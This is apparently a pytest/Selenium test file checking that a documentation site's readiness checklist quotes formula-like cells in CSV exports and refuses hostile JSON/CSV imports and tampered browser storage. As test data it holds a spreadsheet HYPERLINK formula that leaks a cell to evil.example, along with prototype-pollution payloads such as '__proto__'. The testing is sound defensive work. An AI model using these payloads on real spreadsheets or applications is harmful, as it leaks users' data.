"""The readiness checklist in a browser and hostile files: the CSV export never hands a
spreadsheet a formula, and an import is as strict as ``lw-method readiness``."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from selenium.webdriver.common.by import By

from browser import start_browser
from conftest import ROOTS
from lw_method.cli import main
from test_checklist_browser import choose, chosen, click, notes, wait_for

pytestmark = pytest.mark.browser

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    """The basic test project built as HTML, with its two checks kettle-ready and budget-shared."""
    out = tmp_path_factory.mktemp("checklist-site")
    subprocess.run([sys.executable, "-m", "sphinx", "-q", "-b", "html", "-d", str(out / ".doctrees"),
                    str(ROOTS / "test-basic"), str(out / "html")], check=True)
    return out / "html"


@pytest.fixture(scope="module")
def downloads(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("downloads")


@pytest.fixture(scope="module")
def driver(tmp_path_factory, downloads):
    driver = start_browser(tmp_path_factory.mktemp("profile"), downloads)
    yield driver
    driver.quit()


@pytest.fixture
def page(driver, site):
    """The checklist page, opened afresh with no answers kept."""
    driver.get((site / "readiness.html").as_uri())
    driver.execute_script("window.localStorage.clear()")
    driver.refresh()
    wait_for(lambda: driver.find_elements(By.CSS_SELECTOR, ".lw-checklist-choice"))
    return driver


def message(driver) -> str:
    return driver.find_element(By.CLASS_NAME, "lw-checklist-message").text


def upload(driver, path: Path) -> str:
    """Import ``path`` through the page's file input; the message it shows."""
    driver.execute_script("document.querySelector('.lw-checklist-message').textContent = ''")
    driver.find_element(By.CSS_SELECTOR, "input.lw-checklist-file").send_keys(str(path))
    return wait_for(lambda: message(driver))


def import_json(driver, answers: list[dict]) -> None:
    driver.execute_script("window.lwReadiness[0].importText(arguments[0])", json.dumps({"answers": answers}))


def notes_cells(csv_text: str) -> dict[str, str]:
    return {row["check"]: row["notes"] for row in csv.DictReader(io.StringIO(csv_text))}


def test_csv_export_guards_a_formula_and_both_imports_read_it_back(page, site, downloads, tmp_path, capsys):
    choose(page, "budget-shared", "not-yet")
    notes(page, "budget-shared").send_keys(HYPERLINK)
    click(page, "export-csv")
    exported = wait_for(lambda: next(iter(downloads.glob("readiness-answers*.csv")), None))
    cell = notes_cells(exported.read_text(encoding="utf-8"))["budget-shared"]
    assert cell == "'" + HYPERLINK

    code = main(["readiness", str(exported), "--handbook", str(site / "lw-method.json")])
    assert code == 0 and f"Your notes: {HYPERLINK}" in capsys.readouterr().out

    click(page, "clear")
    assert upload(page, exported).startswith("Imported 1 answers")
    assert notes(page, "budget-shared").get_attribute("value") == HYPERLINK


@pytest.mark.parametrize(("typed", "cell"), [
    ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\tindented", "'\tindented"),
    ("\rreturn", "'\rreturn"), ("'=already quoted", "''=already quoted"), ("'plain", "'plain"),
    ("a = b", "a = b"),
])
def test_every_formula_start_is_guarded_in_the_csv_only(page, typed, cell):
    import_json(page, [{"check": "kettle-ready", "status": "emerging", "notes": typed}])
    exported = page.execute_script("return window.lwReadiness[0].exportCSV()")
    assert notes_cells(exported)["kettle-ready"] == cell
    as_json = json.loads(page.execute_script("return window.lwReadiness[0].exportJSON()"))
    assert as_json["answers"][0]["notes"] == typed
    page.execute_script("window.lwReadiness[0].importText(arguments[0])", exported)
    assert page.execute_script("return window.lwReadiness[0].answers()['kettle-ready'].notes") == typed


@pytest.mark.parametrize(("name", "content", "refusal"), [
    ("proto.json", '{"answers": [{"check": "__proto__", "status": "in-place", "notes": "x"}]}',
     "answer 1: no check on this page has the id '__proto__'"),
    ("constructor.json", '[{"check": "kettle-ready", "status": "emerging"}, {"check": "constructor"}]',
     "answer 2: no check on this page has the id 'constructor'"),
    ("proto.csv", "check,status,notes\n__proto__,in-place,polluted\n",
     "line 2: no check on this page has the id '__proto__'"),
    ("twice.csv", 'check,status,notes\nkettle-ready,in-place,"first\nanswer"\nkettle-ready,not-yet,\n',
     "line 4: check 'kettle-ready' is answered twice (the first time: line 2)"),
    ("twice.json", '{"answers": [{"check": "budget-shared"}, {"check": "budget-shared", "status": "emerging"}]}',
     "answer 2: check 'budget-shared' is answered twice (the first time: answer 1)"),
    ("object-notes.json", '{"answers": [{"check": "kettle-ready", "notes": {"toString": "x"}}]}',
     "answer 1: 'notes' must be text, not an object"),
    ("list-notes.json", '{"answers": [{"check": "kettle-ready", "notes": ["x"]}]}',
     "answer 1: 'notes' must be text, not a list"),
    ("number-status.json", '{"answers": [{"check": "kettle-ready", "status": 2}]}',
     "answer 1: 'status' must be text, not a number"),
    ("bad-status.json", '{"answers": [{"check": "kettle-ready", "status": "done"}]}',
     "answer 1: status 'done' is not one of not-yet, emerging, in-place"),
    ("not-object.json", '{"answers": ["kettle-ready"]}', "answer 1 is not an object"),
    ("unclosed.csv", 'check,status,notes\nkettle-ready,in-place,"open\nbudget-shared,emerging,\n',
     "line 2: a quoted field is never closed"),
    ("after-quote.csv", 'check,status,notes\nkettle-ready,"in-place"x,\n',
     "line 2: a quoted field must be followed by a comma or the end of the row"),
], ids=["proto-json", "constructor", "proto-csv", "twice-csv", "twice-json", "object-notes", "list-notes",
        "number-status", "bad-status", "not-object", "unclosed-quote", "after-quote"])
def test_a_hostile_import_is_refused_whole_and_changes_nothing(page, tmp_path, name, content, refusal):
    choose(page, "kettle-ready", "in-place")
    path = tmp_path / name
    path.write_text(content, encoding="utf-8")
    assert upload(page, path).startswith(f"Could not import {name}: {refusal}")
    assert chosen(page, "kettle-ready") == "in-place" and chosen(page, "budget-shared") is None
    assert page.execute_script("return ({}).polluted === undefined && Object.getPrototypeOf("
                               "window.lwReadiness[0].answers()) === Object.prototype")
    kept = page.execute_script("return window.localStorage.getItem(arguments[0])",
                               page.execute_script("return document.querySelector('.lw-checklist')"
                                                   ".getAttribute('data-storage-key')"))
    assert json.loads(kept) == {"kettle-ready": {"status": "in-place", "notes": ""}}


def test_tampered_storage_is_not_loaded(page):
    key = page.execute_script("return document.querySelector('.lw-checklist').getAttribute('data-storage-key')")
    page.execute_script("window.localStorage.setItem(arguments[0], arguments[1])", key, json.dumps({
        "__proto__": {"status": "in-place", "notes": ""}, "kettle-ready": {"status": "in-place", "notes": {"x": 1}},
        "budget-shared": {"status": "emerging", "notes": "kept"}}))
    page.refresh()
    wait_for(lambda: page.find_elements(By.CSS_SELECTOR, ".lw-checklist-choice"))
    assert page.execute_script("return window.lwReadiness[0].answers()") == {
        "budget-shared": {"status": "emerging", "notes": "kept"}}
    assert chosen(page, "kettle-ready") is None and chosen(page, "budget-shared") == "emerging"
